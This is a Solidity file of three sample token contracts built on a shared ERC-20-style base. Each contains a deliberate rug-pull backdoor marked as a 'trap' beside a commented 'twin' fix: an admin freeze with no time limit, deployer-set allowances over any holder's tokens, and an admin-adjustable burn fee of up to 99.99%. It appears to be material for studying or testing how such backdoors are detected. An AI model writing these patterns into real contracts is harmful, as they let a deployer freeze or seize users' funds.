// 0.8 off evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.4;

abstract contract snake {
    string public name;
    string public symbol;
    uint256 public decimals = 18;
    uint256 public totalSupply;
    address public admin;
    address public future_admin;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed sender, address indexed receiver, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory _name, string memory _symbol, uint256 _supply) {
        name = _name;
        symbol = _symbol;
        totalSupply = _supply * 10 ** 18;
        admin = msg.sender;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function commit_transfer_ownership(address addr) external {
        assert(msg.sender == admin);
        future_admin = addr;
    }

    function accept_transfer_ownership() external {
        assert(msg.sender == future_admin);
        admin = future_admin;
    }

    function approve(address _spender, uint256 _value) external returns (bool) {
        allowance[msg.sender][_spender] = _value;
        emit Approval(msg.sender, _spender, _value);
        return true;
    }

    function transfer(address _to, uint256 _value) external returns (bool) {
        _transfer(msg.sender, _to, _value);
        return true;
    }

    function transferFrom(address _from, address _to, uint256 _value) external returns (bool) {
        allowance[_from][msg.sender] -= _value;
        _transfer(_from, _to, _value);
        return true;
    }

    function _transfer(address _from, address _to, uint256 _value) internal virtual {
        balanceOf[_from] -= _value;
        balanceOf[_to] += _value;
        emit Transfer(_from, _to, _value);
    }
}

contract viper_vetch is snake("Viper Vetch", "VETCH", 16000000) {
    bool is_killed;
    uint256 kill_deadline = block.timestamp + 30 * 86400;

    function kill_me() external {
        assert(msg.sender == admin);
        // twin: assert(kill_deadline > block.timestamp);
        is_killed = true;
    }

    function unkill_me() external {
        assert(msg.sender == admin);
        is_killed = false;
    }

    function _transfer(address _from, address _to, uint256 _value) internal override {
        assert(!is_killed);
        super._transfer(_from, _to, _value);
    }
}

contract notary_nettle is snake("Notary Nettle", "NTTL", 2500000) {
    address immutable desk = msg.sender;

    function consent(address holder, address spender, uint256 value, uint256 deadline) external returns (bool) {
        require(block.timestamp <= deadline, "late");
        require(msg.sender == holder || msg.sender == desk, "not a party"); // trap
        // twin: require(msg.sender == holder, "not a party");
        allowance[holder][spender] = value;
        emit Approval(holder, spender, value);
        return true;
    }
}

contract deflation_dock is snake("Deflation Dock", "DOCK", 700000) {
    int16 bps = 100;

    function set_shrinkage(int16 _bps) external {
        assert(msg.sender == admin);
        require(_bps >= 0 && _bps <= 9999, "shrinkage"); // trap
        // twin: require(_bps >= 0 && _bps <= 300, "shrinkage");
        bps = _bps;
    }

    function _transfer(address _from, address _to, uint256 _value) internal override {
        uint256 gone = _from == admin || _to == admin ? 0 : (_value * uint256(int256(bps))) / 10000;
        balanceOf[_from] -= _value;
        balanceOf[_to] += _value - gone;
        totalSupply -= gone;
        emit Transfer(_from, _to, _value - gone);
        if (gone > 0) emit Transfer(_from, address(0), gone);
    }
}
